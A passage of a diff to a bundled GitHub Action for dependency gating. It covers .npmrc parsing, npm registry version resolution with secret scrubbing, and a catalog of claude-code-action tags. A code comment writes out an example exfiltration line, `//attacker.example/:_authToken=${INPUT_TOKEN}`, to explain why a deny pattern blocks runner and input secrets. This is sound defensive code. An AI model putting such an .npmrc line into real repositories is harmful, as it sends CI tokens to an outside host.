+    return JSON.stringify(sarif, null, 2) + '\n';
+}
+function escapeMd(s) {
+    return s.replace(/([\\`*_[\]<>|])/g, '\\$1');
+}
+
+;// CONCATENATED MODULE: ./src/reporters/summary.ts
+
+/** GitHub accepts up to 1 MiB of summary per step; keep a margin for the runner's own framing. */
+const SUMMARY_MAX_BYTES = 1024 * 1024 - 16 * 1024;
+/** A link to a file and line at a commit. */
+function blobLink(ctx) {
+    return (file, line) => {
+        if (!ctx.repository || !ctx.sha)
+            return undefined;
+        const full = ctx.pathPrefix ? `${ctx.pathPrefix.replace(/\/+$/, '')}/${file}` : file;
+        const path = full.split('/').map(encodeURIComponent).join('/');
+        return `${ctx.serverUrl.replace(/\/+$/, '')}/${ctx.repository}/blob/${ctx.sha}/${path}#L${line}`;
+    };
+}
+/** The job summary's Markdown, within the summary size limit. */
+function renderSummary(report, ctx) {
+    const notes = [...(ctx.compared ? [ctx.compared] : []), ...(ctx.notes ?? [])];
+    return renderMarkdown(report, {
+        failOn: ctx.failOn,
+        link: blobLink(ctx),
+        maxBytes: ctx.maxBytes ?? SUMMARY_MAX_BYTES,
+        extraNotes: notes,
+    });
+}
+
+// EXTERNAL MODULE: ./node_modules/npm-package-arg/lib/npa.js
+var npa = __nccwpck_require__(78056);
+var npa_default = /*#__PURE__*/__nccwpck_require__.n(npa);
+;// CONCATENATED MODULE: ./src/resolver/npmrc.ts
+// npm configuration for registry look-ups: the repository's `.npmrc`, the user's `.npmrc` and the
+// `npm_config_*` environment, reduced to what deciding where a package comes from and how to
+// authenticate needs. Everything else npm reads from these files is ignored on purpose: a look-up
+// must not read files named by config (certfile, cafile), run anything, or change behaviour in ways
+// a pull request could use.
+
+
+const PUBLIC_REGISTRY = 'https://registry.npmjs.org/';
+/** `.npmrc` files are small; a larger one is not a config file. */
+const MAX_NPMRC_BYTES = 256 * 1024;
+/** The auth settings npm-registry-fetch reads for a registry (`//host/path/:<key>`). */
+const AUTH_KEYS = ['_authToken', '_auth', 'username', '_password'];
+/**
+ * Environment variables a repository's `.npmrc` may never expand: the action's inputs (the GitHub
+ * token arrives as INPUT_TOKEN) and the runner's own credentials (ACTIONS_RUNTIME_TOKEN,
+ * ACTIONS_ID_TOKEN_REQUEST_TOKEN). Without this, a pull request could add
+ * `//attacker.example/:_authToken=${INPUT_TOKEN}` and have the gate send the token away.
+ */
+const FORBIDDEN_IN_PROJECT = /^(INPUT_|ACTIONS_)/i;
+const SCOPE = /^@[a-z0-9][a-z0-9._~-]*$/i;
+/** Parses `.npmrc` text (ini: `key = value`, `;`/`#` comments, quoted values) into entries. */
+function parseNpmrc(text) {
+    const entries = [];
+    const lines = text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/);
+    for (let i = 0; i < lines.length; i++) {
+        const line = lines[i].trim();
+        if (line === '' || line.startsWith(';') || line.startsWith('#') || line.startsWith('['))
+            continue;
+        const eq = line.indexOf('=');
+        const key = (eq < 0 ? line : line.slice(0, eq)).trim();
+        let value = eq < 0 ? 'true' : line.slice(eq + 1).trim();
+        if (value.length >= 2 && value.startsWith('"') && value.endsWith('"')) {
+            try {
+                const parsed = JSON.parse(value);
+                if (typeof parsed === 'string')
+                    value = parsed;
+            }
+            catch {
+                value = value.slice(1, -1);
+            }
+        }
+        else if (value.length >= 2 && value.startsWith("'") && value.endsWith("'")) {
+            value = value.slice(1, -1);
+        }
+        if (key !== '')
+            entries.push({ key, value, line: i + 1 });
+    }
+    return entries;
+}
+/** npm's `${VAR}` expansion (`${VAR?}` is empty when unset, `\${` is literal). */
+function npmrc_expand(value, env, project) {
+    let missing = null;
+    let forbidden = null;
+    const out = value.replace(/(\\*)\$\{([^${}?]+)(\?)?\}/g, (whole, esc, name, optional) => {
+        if (esc.length % 2 === 1)
+            return whole.slice(1);
+        if (project && FORBIDDEN_IN_PROJECT.test(name)) {
+            forbidden ??= name;
+            return '';
+        }
+        const v = env[name];
+        if (v === undefined) {
+            if (!optional)
+                missing ??= name;
+            return esc;
+        }
+        return esc + v;
+    });
+    if (forbidden !== null)
+        return { forbidden };
+    if (missing !== null)
+        return { missing };
+    return { value: out };
+}
+/** A registry URL normalised to end in `/`, or null when it is not an http(s) URL. */
+function normalizeRegistry(raw) {
+    let url;
+    try {
+        url = new URL(raw.trim());
+    }
+    catch {
+        return null;
+    }
+    if (url.protocol !== 'http:' && url.protocol !== 'https:')
+        return null;
+    url.hash = '';
+    url.search = '';
+    if (!url.pathname.endsWith('/'))
+        url.pathname += '/';
+    return url.toString();
+}
+/** A registry URL fit for messages: no credentials, query or fragment. */
+function displayRegistry(registry) {
+    try {
+        const url = new URL(registry);
+        url.username = '';
+        url.password = '';
+        url.search = '';
+        url.hash = '';
+        return url.toString();
+    }
+    catch {
+        return '(invalid registry URL)';
+    }
+}
+function readOptional(path) {
+    try {
+        const buf = (0,external_node_fs_.readFileSync)(path);
+        if (buf.length > MAX_NPMRC_BYTES)
+            return null;
+        return buf.toString('utf8');
+    }
+    catch {
+        return null;
+    }
+}
+function envValue(env, name) {
+    const lower = name.toLowerCase();
+    for (const [k, v] of Object.entries(env))
+        if (k.toLowerCase() === lower && v !== undefined)
+            return v;
+    return undefined;
+}
+/**
+ * Reads the npm configuration that decides where packages are looked up, in npm's order of
+ * precedence: `registry` option, `npm_config_*` environment, the project `.npmrc`, the user
+ * `.npmrc` (`NPM_CONFIG_USERCONFIG`, else `$HOME/.npmrc` from `env`), the public registry.
+ * Never reads the machine's home directory unless `env` names it.
+ */
+function loadNpmConfig(options) {
+    const { env } = options;
+    const errors = [];
+    const secrets = [];
+    const scopes = new Map();
+    const auth = new Map();
+    let registry = null;
+    const userPath = envValue(env, 'npm_config_userconfig') ??
+        (env.HOME ? (0,external_node_path_.join)(env.HOME, '.npmrc') : env.USERPROFILE ? (0,external_node_path_.join)(env.USERPROFILE, '.npmrc') : undefined);
+    const projectText = options.projectNpmrc !== undefined ? options.projectNpmrc : readOptional((0,external_node_path_.join)(options.root, '.npmrc'));
+    // Lowest precedence first; later layers overwrite.
+    const layers = [
+        { text: userPath ? readOptional(userPath) : null, project: false, file: userPath ?? '' },
+        { text: projectText, project: true, file: '.npmrc' },
+    ];
+    for (const layer of layers) {
+        if (layer.text === null)
+            continue;
+        for (const { key, value: raw, line } of parseNpmrc(layer.text)) {
+            const isRegistry = key === 'registry' || (key.endsWith(':registry') && key.startsWith('@'));
+            const authKey = AUTH_KEYS.find((k) => key.startsWith('//') && key.endsWith(':' + k));
+            if (!isRegistry && !authKey)
+                continue;
+            const expanded = npmrc_expand(raw, env, layer.project);
+            if ('forbidden' in expanded) {
+                // Only the repository's own file can be hostile; report it so the gate fails closed.
+                errors.push({
+                    file: layer.file,
+                    line,
+                    message: `${key} expands \${${expanded.forbidden}}: a repository's .npmrc may not use the action's or runner's secrets; the setting is ignored`,
+                });
+                continue;
+            }
+            if ('missing' in expanded)
+                continue; // npm would send the literal text; sending nothing is safer
+            const value = expanded.value;
+            if (isRegistry) {
+                const url = normalizeRegistry(value);
+                if (url === null) {
+                    if (layer.project)
+                        errors.push({
+                            file: layer.file,
+                            line,
+                            message: `${key} is not an http(s) URL; the setting is ignored`,
+                        });
+                    continue;
+                }
+                if (key === 'registry')
+                    registry = url;
+                else {
+                    const scope = key.slice(0, -':registry'.length).toLowerCase();
+                    if (SCOPE.test(scope))
+                        scopes.set(scope, url);
+                }
+            }
+            else if (authKey && value !== '') {
+                auth.set(key, value);
+                secrets.push(value);
+                if (authKey === '_auth')
+                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
+                if (authKey === '_password')
+                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
+            }
+        }
+    }
+    for (const [k, v] of Object.entries(env)) {
+        if (v === undefined)
+            continue;
+        const m = /^npm_config_(@[^:]+):registry$/i.exec(k);
+        if (m && SCOPE.test(m[1])) {
+            const url = normalizeRegistry(v);
+            if (url)
+                scopes.set(m[1].toLowerCase(), url);
+        }
+    }
+    const envRegistry = envValue(env, 'npm_config_registry');
+    if (envRegistry !== undefined && normalizeRegistry(envRegistry))
+        registry = normalizeRegistry(envRegistry);
+    if (options.registry !== undefined) {
+        const url = normalizeRegistry(options.registry);
+        if (url === null)
+            throw new Error(`registry "${options.registry}" is not an http(s) URL`);
+        registry = url;
+    }
+    for (const url of [registry, ...scopes.values()]) {
+        if (!url)
+            continue;
+        const u = new URL(url);
+        if (u.password)
+            secrets.push(decodeURIComponent(u.password));
+    }
+    return {
+        registry: registry ?? PUBLIC_REGISTRY,
+        scopes,
+        auth,
+        secrets: secrets.filter((s) => s.length >= 4),
+        errors,
+    };
+}
+/** The registry a package name is looked up in. */
+function registryFor(config, name) {
+    if (name.startsWith('@')) {
+        const scope = name.slice(0, name.indexOf('/')).toLowerCase();
+        const url = config.scopes.get(scope);
+        if (url)
+            return url;
+    }
+    return config.registry;
+}
+/** Replaces every known credential in a message (defence in depth: messages are built without them). */
+function scrub(message, secrets) {
+    let out = message;
+    for (const s of secrets)
+        if (out.includes(s))
+            out = out.split(s).join('***');
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/resolver/npm-resolver.ts
+// Resolves unpinned npm specs (`latest`, `^2.1.0`, `*`, nothing at all) to the version an install
+// would get now, by asking the registry the repository is configured for, the way npm does
+// (pacote.manifest: dist-tags, ranges and the `latest` preference of npm-pick-manifest).
+
+
+
+
+const OFFLINE_NOTE = 'offline: not resolved';
+/** Look-ups in a row that get no answer at all from a registry before the rest skip it. */
+const UNREACHABLE_AFTER = 3;
+const MAX_VERSION_LENGTH = 256;
+/**
+ * Which look-up an unpinned npm registry component needs, or a reason it cannot have one, or
+ * null when the component is not the resolver's (pinned, not npm, not from a registry).
+ */
+function registryRequest(c) {
+    if (c.ecosystem !== 'npm' || c.version !== null || c.sourceKind !== 'registry')
+        return null;
+    let written = (c.spec ?? '').trim();
+    // An alias written whole (`npm:@scope/real@^1`): the part after the real name is the spec.
+    if (written.startsWith('npm:')) {
+        try {
+            const alias = npa_default()(written);
+            if (alias.type === 'alias' && alias.subSpec && alias.subSpec.name === c.name)
+                written = alias.subSpec.rawSpec;
+        }
+        catch {
+            return { reason: `spec "${c.spec}" is not a valid npm alias` };
+        }
+    }
+    const spec = written === '' ? 'latest' : written;
+    let parsed;
+    try {
+        parsed = npa_default().resolve(c.name, spec);
+    }
+    catch {
+        return { reason: `"${c.name}@${spec}" is not a valid npm package spec` };
+    }
+    // Only registry specs: anything else (git, file, URL) would make pacote clone or download.
+    if (parsed.type !== 'tag' && parsed.type !== 'range' && parsed.type !== 'version') {
+        return { reason: `spec "${spec}" is not a dist-tag or a version range` };
+    }
+    return { name: c.name, spec };
+}
+/** Runs tasks with at most `limit` in flight. */
+function limiter(limit) {
+    let active = 0;
+    const queue = [];
+    const next = () => {
+        if (active >= limit)
+            return;
+        const start = queue.shift();
+        if (start) {
+            active++;
+            start();
+        }
+    };
+    return (task) => new Promise((resolve, reject) => {
+        queue.push(() => {
+            task()
+                .then(resolve, reject)
+                .finally(() => {
+                active--;
+                next();
+            });
+        });
+        next();
+    });
+}
+function failureOf(e) {
+    return typeof e === 'object' && e !== null ? e : {};
+}
+/** No HTTP answer at all: a timeout or a network error. */
+function isUnanswered(f, timedOut) {
+    if (timedOut || f.type === 'request-timeout')
+        return true;
+    if (f.statusCode !== undefined || f.type === 'invalid-json')
+        return false;
+    return typeof f.code === 'string' && !['ETARGET', 'E404', 'E401', 'E403'].includes(f.code);
+}
+function isRetryable(f, timedOut) {
+    if (timedOut)
+        return true;
+    if (f.statusCode !== undefined)
+        return f.statusCode === 408 || f.statusCode === 429 || f.statusCode >= 500;
+    if (f.code === 'E404' || f.code === 'ETARGET' || f.code === 'E401' || f.code === 'E403')
+        return false;
+    if (f.type === 'invalid-json')
+        return false;
+    // Network errors (ECONNRESET, ECONNREFUSED, EAI_AGAIN, …).
+    return typeof f.code === 'string' && f.code.startsWith('E');
+}
+/** Why a look-up failed, in words that never carry the request's credentials. */
+function describe(f, timedOut, req, where, attempts, timeoutMs) {
+    const tries = attempts === 1 ? '1 attempt' : `${attempts} attempts`;
+    if (timedOut || f.type === 'request-timeout')
+        return `no answer from ${where} within ${timeoutMs} ms (${tries})`;
+    if (f.code === 'ETARGET')
+        return `no version of ${req.name} matches "${req.spec}" at ${where}`;
+    if (f.code === 'E404' || f.statusCode === 404)
+        return `${req.name} not found at ${where} (HTTP 404)`;
+    if (f.statusCode === 401 || f.statusCode === 403)
+        return `${where} refused the look-up of ${req.name} (HTTP ${f.statusCode}): missing or rejected credentials`;
+    if (f.type === 'invalid-json')
+        return `${where} answered ${req.name} with invalid JSON`;
+    if (f.statusCode !== undefined)
+        return `HTTP ${f.statusCode} from ${where} for ${req.name} (${tries})`;
+    if (typeof f.code === 'string' && /^[A-Z0-9_]{2,40}$/.test(f.code))
+        return `network error ${f.code} reaching ${where} (${tries})`;
+    return `look-up of ${req.name} at ${where} failed (${tries})`;
+}
+const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+/**
+ * Creates the npm resolver stage. Each distinct (name, spec) is looked up once per resolver call;
+ * failures never throw: the component keeps `version: null` and `versionNote` says why.
+ */
+function createNpmResolver(options) {
+    const concurrency = Math.max(1, options.concurrency ?? 8);
+    const timeoutMs = Math.max(1, options.timeoutMs ?? 15_000);
+    const retries = Math.max(0, options.retries ?? 2);
+    const retryDelayMs = Math.max(0, options.retryDelayMs ?? 500);
+    return async (components) => {
+        const wanted = components.map(registryRequest);
+        if (!wanted.some((w) => w !== null)) {
+            return { components: [...components], stats: { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 } };
+        }
+        const stats = { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 };
+        let config = null;
+        let errors = [];
+        if (!options.offline) {
+            config = loadNpmConfig({
+                root: options.root,
+                env: options.env,
+                ...(options.registry !== undefined ? { registry: options.registry } : {}),
+                ...(options.projectNpmrc !== undefined ? { projectNpmrc: options.projectNpmrc } : {}),
+            });
+            errors = config.errors;
+        }
+        const limit = limiter(concurrency);
+        // One packument request per package per run: specs of one package are looked up one after
+        // the other, the first fills pacote's in-memory packument cache and the rest read it; when
+        // the first fails for a reason that is about the package, the rest share that reason.
+        const packumentCache = new Map();
+        const lookups = new Map();
+        const lastOfPackage = new Map();
+        // A registry that answers nothing (down, blackholed) would cost every package the full
+        // timeout and retries; after a few look-ups in a row without an answer the rest skip it.
+        const unanswered = new Map();
+        // pacote and its dependencies take most of a second to load: only runs that look up pay it.
+        let pacoteModule = null;
+        const loadPacote = () => (pacoteModule ??= __nccwpck_require__.e(/* import() */ 710).then(__nccwpck_require__.t.bind(__nccwpck_require__, 92710, 23)).then((m) => m.default));
+        const lookUp = async (cfg, req) => {
+            const { manifest } = await loadPacote();
+            const registry = registryFor(cfg, req.name);
+            const where = displayRegistry(registry);
+            const spec = npa_default().resolve(req.name, req.spec).toString();
+            const down = unanswered.get(registry);
+            if (down && down.inARow >= UNREACHABLE_AFTER) {
+                return {
+                    reason: `skipped: ${where} gave no answer to ${down.inARow} look-ups in a row (last: ${down.last})`,
+                    byPackage: true,
+                };
+            }
+            let attempt = 0;
+            for (;;) {
+                attempt++;
+                stats.attempts++;
+                const controller = new AbortController();
+                let timedOut = false;
+                const timer = setTimeout(() => {
+                    timedOut = true;
+                    controller.abort();
+                }, timeoutMs);
+                try {
+                    const opts = {
+                        registry,
+                        fullMetadata: false,
+                        preferOnline: true,
+                        packumentCache,
+                        // No `cache`: nothing is written to disk and every run asks the registry afresh.
+                        fetchRetries: 0,
+                        timeout: timeoutMs,
+                        signal: controller.signal,
+                        userAgent: 'ai-tooling-gate (pacote)',
+                    };
+                    for (const [k, v] of cfg.auth)
+                        opts[k] = v;
+                    // The signal aborts the request; the race makes sure nothing waits past the timeout
+                    // even if some layer below does not honour it.
+                    const found = await Promise.race([
+                        manifest(spec, opts),
+                        new Promise((_, reject) => controller.signal.addEventListener('abort', () => reject(Object.assign(new Error('timed out'), { type: 'request-timeout' })))),
+                    ]);
+                    unanswered.delete(registry);
+                    const version = typeof found.version === 'string' ? found.version : '';
+                    if (version.length > MAX_VERSION_LENGTH || semver_default().valid(version) === null) {
+                        return { reason: `${where} answered ${req.name} with an invalid version` };
+                    }
+                    return { version, registry: where };
+                }
+                catch (e) {
+                    const f = failureOf(e);
+                    if (attempt <= retries && isRetryable(f, timedOut)) {
+                        clearTimeout(timer);
+                        await sleep(retryDelayMs * 2 ** (attempt - 1));
+                        continue;
+                    }
+                    const reason = describe(f, timedOut, req, where, attempt, timeoutMs);
+                    if (isUnanswered(f, timedOut)) {
+                        const inARow = (unanswered.get(registry)?.inARow ?? 0) + 1;
+                        unanswered.set(registry, { inARow, last: reason });
+                    }
+                    else
+                        unanswered.delete(registry);
+                    return { reason, byPackage: f.code !== 'ETARGET' };
+                }
+                finally {
+                    clearTimeout(timer);
+                }
+            }
+        };
+        const outcomes = await Promise.all(wanted.map((w) => {
+            if (w === null)
+                return Promise.resolve(null);
+            if ('reason' in w)
+                return Promise.resolve(w);
+            if (config === null)
+                return Promise.resolve({ reason: OFFLINE_NOTE });
+            const key = `${w.name}@${w.spec}`;
+            let p = lookups.get(key);
+            if (!p) {
+                const cfg = config;
+                const previous = lastOfPackage.get(w.name) ?? Promise.resolve(null);
+                p = previous.then((before) => {
+                    if (before && 'reason' in before && before.byPackage)
+                        return before;
+                    stats.lookups++;
+                    return limit(() => lookUp(cfg, w)).catch((e) => ({
+                        reason: `look-up of ${w.name} failed: ${e instanceof Error ? e.message : String(e)}`,
+                    }));
+                });
+                lookups.set(key, p);
+                lastOfPackage.set(w.name, p);
+            }
+            return p;
+        }));
+        const secrets = config?.secrets ?? [];
+        const out = components.map((c, i) => {
+            const outcome = outcomes[i];
+            const w = wanted[i];
+            if (!outcome || !w)
+                return c;
+            if ('version' in outcome && !('reason' in w)) {
+                stats.resolved++;
+                return {
+                    ...c,
+                    version: outcome.version,
+                    purl: purlFor(c.ecosystem, c.name, outcome.version),
+                    versionNote: scrub(`resolved "${w.spec}" to ${outcome.version} from ${outcome.registry}`, secrets),
+                };
+            }
+            stats.unresolved++;
+            const reason = 'reason' in outcome ? outcome.reason : '';
+            return {
+                ...c,
+                versionNote: scrub(reason === OFFLINE_NOTE ? OFFLINE_NOTE : `not resolved: ${reason}`, secrets),
+            };
+        });
+        return { components: out, ...(errors.length > 0 ? { errors } : {}), stats };
+    };
+}
+
+;// CONCATENATED MODULE: ./src/resolver/index.ts
+
+
+/** Adapts a resolver to the audit's `resolve` hook: its errors join the scan's errors. */
+function auditResolveHook(resolver) {
+    return async (components, errors) => {
+        const result = await resolver(components);
+        if (result.errors)
+            errors.push(...result.errors);
+        return result.components;
     };
 }
 
@@ -51808,9 +65979,6 @@ function inc(input, release, preReleaseIdentifier) {
 
 
 
-// EXTERNAL MODULE: ./node_modules/semver/index.js
-var node_modules_semver = __nccwpck_require__(62088);
-var semver_default = /*#__PURE__*/__nccwpck_require__.n(node_modules_semver);
 ;// CONCATENATED MODULE: ./src/catalog/data/claude-code-action-tags.json
 const claude_code_action_tags_namespaceObject = /*#__PURE__*/JSON.parse('{"nB":"2026-11-24","P9":"24dcd50c0568f0fc9e9211213a4fd2d9eb15c4e0","Kb":["v0","v1","beta"],"_A":{"v0.0.1":{"commit":"f66f337f4e2000f427352c56f5537b872ab337eb","date":"2025-05-19","cliVersions":[]},"v0.0.2":{"commit":"ff02ba57223daa31e233a274d57510b97a238d23","date":"2025-05-19","cliVersions":[]},"v0.0.3":{"commit":"c9d5a9d073e4a3d851a733f11c0afd4e533bea4f","date":"2025-05-19","cliVersions":[]},"v0.0.4":{"commit":"48b327f164cb1bbd1fe356e58b70301a78849726","date":"2025-05-21","cliVersions":[]},"v0.0.5":{"commit":"11f5812e2877ff5798b1fa862bdaec784d4eaf52","date":"2025-05-22","cliVersions":[]},"v0.0.6":{"commit":"80dbb4a5aa0c50d1c4ff7ce907c9bb96b30cb841","date":"2025-05-22","cliVersions":[]},"v0.0.7":{"commit":"8e84799f37d42f24e0ebae41205346879bdcab5a","date":"2025-05-22","cliVersions":[]},"v0.0.8":{"commit":"253f2c6796983b2297997f0c3d9960406cc9fd3b","date":"2025-05-27","cliVersions":[]},"v0.0.9":{"commit":"176dbc369d796d013d5286056ffc5a45faa9a606","date":"2025-05-28","cliVersions":[]},"v0.0.10":{"commit":"5a787ed8ab3eee302d46b948267a5c2cb6163314","date":"2025-05-29","cliVersions":[]},"v0.0.11":{"commit":"8da47815ec964716298696421c21e1ddf85a3f7b","date":"2025-05-29","cliVersions":[]},"v0.0.12":{"commit":"f6e559763308297490c3ee55d7753cf969ceafa8","date":"2025-06-02","cliVersions":[]},"v0.0.13":{"commit":"65b9bcde802ac5a3001a401e6cfe69325bf90b9e","date":"2025-06-02","cliVersions":[]},"v0.0.14":{"commit":"4bd9c2053aef2ba7e636657860ce3edcefd40d4e","date":"2025-06-06","cliVersions":[]},"v0.0.15":{"commit":"47ea5c2a699c59955750d39be0a9ba04bbe9dfb9","date":"2025-06-06","cliVersions":[]},"v0.0.16":{"commit":"37483ba1128de6e5b33da71cff57ee65c25a4372","date":"2025-06-09","cliVersions":[]},"v0.0.17":{"commit":"bdd0c925cb06995712d4dbd690e8b8bc513a08eb","date":"2025-06-10","cliVersions":[]},"v0.0.18":{"commit":"b10f287695caa3a755ab23184c63137ab72b7843","date":"2025-06-11","cliVersions":[]},"v0.0.19":{"commit":"41dd0aa695a06b94f18ce26fd851bfd6ed9d8760","date":"2025-06-12","cliVersions":[]},"v0.0.20":{"commit":"e0d3fec39f30dc4ed990b3ada4cbed665ce797a0","date":"2025-06-16","cliVersions":[]},"v0.0.21":{"commit":"bcf2fe94f89c58fa167a7bf50fe21389f235ec04","date":"2025-06-17","cliVersions":[]},"v0.0.22":{"commit":"3486c33ebfa03d71c98e72621759471c45388443","date":"2025-06-17","cliVersions":[]},"v0.0.23":{"commit":"237de9d3299f5e6ec4c97fe3a57ea0fb8f658c09","date":"2025-06-20","cliVersions":[]},"v0.0.24":{"commit":"ebbd9e9be4686249a2952e1a558bbaba07524380","date":"2025-06-20","cliVersions":[]},"v0.0.25":{"commit":"ece712ea816f4853a4c2ebb2455f60c24a5c704c","date":"2025-06-26","cliVersions":[]},"v0.0.26":{"commit":"bcb072b63fcbee749b2ac4fbb9f6106681a4b5d9","date":"2025-07-01","cliVersions":[]},"v0.0.27":{"commit":"00f9595fb44d49fdc15049286d89247d29a08f2b","date":"2025-07-01","cliVersions":[]},"v0.0.28":{"commit":"aa28d465c5331a8835092447d4e8623e883e5c93","date":"2025-07-03","cliVersions":[]},"v0.0.29":{"commit":"e43c1b7facfb79ed6e0e3f9a70188ecdef3e51a0","date":"2025-07-04","cliVersions":[]},"v0.0.30":{"commit":"a804c9e83f1c7a3288cc7a7bbca208491a4bb2f8","date":"2025-07-07","cliVersions":[]},"v0.0.31":{"commit":"87facd7051952ac2f27354dfadb90dc91e9ebc76","date":"2025-07-09","cliVersions":[]},"v0.0.32":{"commit":"cefe963a6b4ae0e511c59b9d6cb6b7b5923714a1","date":"2025-07-10","cliVersions":[]},"v0.0.33":{"commit":"a9d9ad3612d6d61922fb1af719a32b9f1366f3f2","date":"2025-07-15","cliVersions":[]},"v0.0.34":{"commit":"d4d7974604c97ec79208ca115b863b41a325d62d","date":"2025-07-17","cliVersions":[]},"v0.0.35":{"commit":"dfa92d695228cdc22697d203b91e4104e7e84ae8","date":"2025-07-18","cliVersions":["1.0.53"]},"v0.0.36":{"commit":"dfa92d695228cdc22697d203b91e4104e7e84ae8","date":"2025-07-18","cliVersions":["1.0.53"]},"v0.0.37":{"commit":"dfa92d695228cdc22697d203b91e4104e7e84ae8","date":"2025-07-18","cliVersions":["1.0.53"]},"v0.0.38":{"commit":"f6e7adf89ef0a0b369a2b7e69a78bbb7cdb0030c","date":"2025-07-18","cliVersions":["1.0.53"]},"v0.0.39":{"commit":"de86beb3aee5187589f6ef3483c72172dd653b68","date":"2025-07-19","cliVersions":["1.0.56"]},"v0.0.40":{"commit":"93df09fd88688c19bd9e4ca40e5c7281cba39ed1","date":"2025-07-19","cliVersions":["1.0.56"]},"v0.0.41":{"commit":"8f551b358eb856cb921515b1b024d6152edc30aa","date":"2025-07-21","cliVersions":["1.0.57"]},"v0.0.42":{"commit":"0d204a659945e889be1b5a7d7f9e9ea83515a682","date":"2025-07-22","cliVersions":["1.0.57"]},"v0.0.43":{"commit":"0763498a5a7dd1778edfb255374e71ce88d91d6b","date":"2025-07-22","cliVersions":[]},"v0.0.44":{"commit":"e26577a930883943cf9d90885cd1e8da510078dd","date":"2025-07-23","cliVersions":[]},"v0.0.45":{"commit":"7c5a98d59d2464ae73f453c3e649f5b813374481","date":"2025-07-25","cliVersions":["1.0.59","1.0.61"]},"v0.0.46":{"commit":"6037d754ac402c2bebd7b593fcccf5a5da157eb8","date":"2025-07-29","cliVersions":["1.0.62"]},"v0.0.47":{"commit":"e07ea013bd13b5c183d3314c6070fab61daec759","date":"2025-07-29","cliVersions":["1.0.62"]},"v0.0.48":{"commit":"af32fd318a5746954afb2190f98f055799d46e72","date":"2025-07-29","cliVersions":["1.0.62"]},"v0.0.49":{"commit":"6672e9b357e9c7bac9626573784462f9bd1e4212","date":"2025-07-30","cliVersions":["1.0.63"]},"v0.0.50":{"commit":"1f6e3225b088699398302ad624c21c1d780d082f","date":"2025-07-30","cliVersions":["1.0.64"]},"v0.0.51":{"commit":"1b4ac7d7e0f097d23bf4730891060f8d3c11f580","date":"2025-07-31","cliVersions":["1.0.65"]},"v0.0.52":{"commit":"b39377f9bcc6f88c9cd3e00e08f5423febff8dc5","date":"2025-08-04","cliVersions":["1.0.67"]},"v0.0.53":{"commit":"188d526721c4b76a779f8af9a10fe73b500a2fbf","date":"2025-08-05","cliVersions":["1.0.69"]},"v0.0.54":{"commit":"15db2b3c79c0681556c056e9bc3f61fd3fc0347d","date":"2025-08-06","cliVersions":["1.0.69"]},"v0.0.55":{"commit":"6d5c92076ba3f5240a002d916ca6f91c5fa05529","date":"2025-08-08","cliVersions":["1.0.71"]},"v0.0.56":{"commit":"a80505bbfb8296afe47872cf5ada5b2034ad8c45","date":"2025-08-12","cliVersions":["1.0.77"]},"v0.0.57":{"commit":"0b138d9d491aac05f09b58c13bcdf46888a7d08c","date":"2025-08-14","cliVersions":["1.0.81"]},"v0.0.58":{"commit":"a1507aefdc04f00f278407dba905d158ac62399e","date":"2025-08-15","cliVersions":[]},"v0.0.59":{"commit":"02e9ed31816be8cb8d521a26f4ba981e5c89ac5e","date":"2025-08-18","cliVersions":[]},"v0.0.60":{"commit":"68b7ca379c023e06c7d12ad2c81e346b1670cf8c","date":"2025-08-18","cliVersions":[]},"v0.0.61":{"commit":"194fca8b05f044ca6678c516c60c73d6b1d6dbae","date":"2025-08-19","cliVersions":[]},"v0.0.62":{"commit":"9f02f6f6d43ec1d1da0f80028250535a057f3f32","date":"2025-08-20","cliVersions":[]},"beta":{"commit":"28f83620103c48a57093dcc2837eec89e036bb9f","date":"2025-08-22","cliVersions":[]},"v0.0.63":{"commit":"28f83620103c48a57093dcc2837eec89e036bb9f","date":"2025-08-22","cliVersions":[]},"v0":{"commit":"28f83620103c48a57093dcc2837eec89e036bb9f","date":"2025-08-22","cliVersions":[]},"v1.0.0":{"commit":"0630ef383a451c46ccac86eb86ee7641e99c4c9a","date":"2025-08-25","cliVersions":[]},"v1.0.1":{"commit":"c05ccc5ce416f3129e97c8d17188813fef66f002","date":"2025-08-26","cliVersions":[]},"v1.0.2":{"commit":"0c127307fa529d701bc1f0f8f9c0bea881c49a9b","date":"2025-08-28","cliVersions":[]},"v1.0.3":{"commit":"a6888c03f22170d00d2a92fa2317584ca7d5e108","date":"2025-08-29","cliVersions":[]},"v1.0.4":{"commit":"2e6fc44bd4c8c7f287e83a4dccc480a220f8ae4a","date":"2025-09-02","cliVersions":[]},"v1.0.5":{"commit":"fd2c17f101639b10696381c1fd85fa735239090a","date":"2025-09-04","cliVersions":[]},"v1.0.6":{"commit":"a3ff61d47aa5118a43b33ae44c4087d9eb51111a","date":"2025-09-09","cliVersions":[]},"v1.0.7":{"commit":"a5528eec7426a4f0c9c1ac96018daa53ebd05bc4","date":"2025-09-12","cliVersions":[]},"v1.0.8":{"commit":"7ed3b616d54fd445625b77b219342949146bae9e","date":"2025-09-16","cliVersions":[]},"v1.0.9":{"commit":"426380f01bad0a17200865605a85cb28926dccbf","date":"2025-09-26","cliVersions":[]},"v1.0.10":{"commit":"90d189f3abd48655ec3e2c67c552cc23e92d6028","date":"2025-09-30","cliVersions":[]},"v1.0.11":{"commit":"ac1a3207f3f00b4a37e2f3a6f0935733c7c64651","date":"2025-10-06","cliVersions":[]},"v1.0.12":{"commit":"777ffcbfc9d2e2b07f3cfec41b7c7eadedd1f0dc","date":"2025-10-09","cliVersions":[]},"v1.0.13":{"commit":"e8bad572273ce919ba15fec95aef0ce974464753","date":"2025-10-14","cliVersions":[]},"v1.0.14":{"commit":"f30f5eecfce2f34fa72e40fa5f7bcdbdcad12eb8","date":"2025-10-21","cliVersions":[]},"v1.0.15":{"commit":"f4d737af0b61a79741d8246c5207da5887746212","date":"2025-10-27","cliVersions":[]},"v1.0.16":{"commit":"8a1c4371755898f67cd97006ba7c97702d5fc4bf","date":"2025-10-29","cliVersions":[]},"v1.0.17":{"commit":"906bd89c74d21481682b0d428064c01578ae29d7","date":"2025-11-18","cliVersions":[]},"v1.0.18":{"commit":"6902c227aaa9536481b99d56f3014bbbad6c6da8","date":"2025-11-18","cliVersions":[]},"v1.0.19":{"commit":"f9b2917716eb547b52148c7805dffe3a57864094","date":"2025-11-21","cliVersions":[]},"v1.0.20":{"commit":"798cf0988d672fc8049482ce79e